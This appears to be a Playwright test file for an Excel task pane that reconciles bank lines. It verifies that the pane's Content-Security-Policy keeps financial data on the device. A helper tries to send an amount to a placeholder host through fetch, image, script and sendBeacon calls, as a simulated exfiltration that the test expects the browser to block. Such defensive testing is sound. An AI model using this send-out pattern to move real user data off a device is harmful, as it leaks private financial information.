/** "Niets verlaat uw apparaat": what the pane promises, as the browser enforces it. */
import { expect, test } from "@playwright/test";
import { openDesk, paneFrame, settled } from "./pane";

const ELSEWHERE = "https://elsewhere.example/";

test("the page allows its own origin and nobody else's", async ({ request }) => {
  const page = await (await request.get("/pane.html")).text();
  const [, policy = ""] = /http-equiv="?Content-Security-Policy"? content="([^"]*)"/.exec(page) ?? [];
  const directives = Object.fromEntries(
    policy.split("; ").map((directive) => [directive.split(" ")[0], directive.split(" ").slice(1)]),
  );
  expect(directives).toEqual({
    "default-src": ["'none'"],
    "script-src": ["'self'"],
    "style-src": ["'unsafe-inline'"],
    "worker-src": ["'self'"],
    "img-src": ["'self'", "data:"],
    "font-src": ["'self'", "data:"],
    "connect-src": ["'self'"],
    "base-uri": ["'none'"],
    "form-action": ["'none'"],
  });
});

test("clearing sends nothing, and what would send something is refused", async ({ page }) => {
  const sent: string[] = [];
  await page.context().route(
    (url) => url.origin !== "https://localhost:3000" && /^https?:$/.test(url.protocol),
    (route) => {
      sent.push(route.request().url());
      return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
    },
  );
  page.on("websocket", (socket) => sent.push(socket.url()));
  const desk = await openDesk(page);
  const { pane } = desk;
  await settled(desk);

  await test.step("from sample to memorial no request leaves the origin", async () => {
    await pane.getByRole("button", { name: "Automatisch afletteren" }).click();
    await expect(pane.getByText("49 van 70 bankregels afgeletterd").first()).toBeVisible();
    await pane.getByRole("button", { name: "Verder naar memoriaal" }).click();
    await pane.getByRole("radio", { name: /Ze staan open op de relatie/ }).click();
    await pane.getByRole("button", { name: "Opslaan" }).click();
    await pane.getByRole("button", { name: "Memoriaalboeking maken" }).click();
    await expect(pane.getByText("0 van 49 boekstukken goedgekeurd")).toBeVisible();
    await settled(desk);
    expect(desk.outside).toEqual([]);
    expect(sent).toEqual([]);
  });

  const send = async (address: string) => {
    const refused: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
    const answers = await Promise.allSettled([
      fetch(address, { method: "POST", mode: "no-cors", body: "€ 1.210,00" }),
      new Promise((loaded, failed) => Object.assign(new Image(), { onload: loaded, onerror: failed, src: address })),
      new Promise((loaded, failed) =>
        document.head.append(
          Object.assign(document.createElement("script"), { onload: loaded, onerror: failed, src: address }),
        ),
      ),
    ]);
    navigator.sendBeacon(address, "€ 1.210,00");
    await new Promise((later) => setTimeout(later, 100));
    return { answers: answers.map(({ status }) => status), refused: refused.sort() };
  };

  await test.step("a script that got into the pane could send nothing", async () => {
    const frame = await paneFrame(desk);
    expect(await frame.evaluate(send, ELSEWHERE)).toEqual({
      answers: ["rejected", "rejected", "rejected"],
      refused: ["connect-src", "connect-src", "img-src", "script-src-elem"],
    });
    expect(sent).toEqual([]);
  });

  await test.step("the same from a page without that promise does go out, so this test would see it", async () => {
    const { answers } = await page.evaluate(send, ELSEWHERE);
    expect(answers[0]).toBe("fulfilled");
    expect(sent).toContain(ELSEWHERE);
  });
});

for (const [locale, language, heading, sentence] of [
  ["nl-NL", "nl", "Deze pagina werkt in Excel", "Een taakvenster in Excel dat openstaande posten aflettert"],
  ["en-GB", "en", "This page works in Excel", "A task pane in Excel that clears open items"],
] as const) {
  test(`opened as a plain page it says what it is, in ${language}`, async ({ browser }) => {
    const context = await browser.newContext({ locale, ignoreHTTPSErrors: true });
    const page = await context.newPage();
    await page.goto("/pane.html");
    await expect(page.getByRole("heading", { name: heading })).toBeVisible();
    await expect(page.getByText(sentence)).toBeVisible();
    await expect(page.locator("html")).toHaveAttribute("lang", language);
    await page.screenshot({ path: `test/e2e/screenshots/plain-page-${language}.png` });
    await context.close();
  });
}
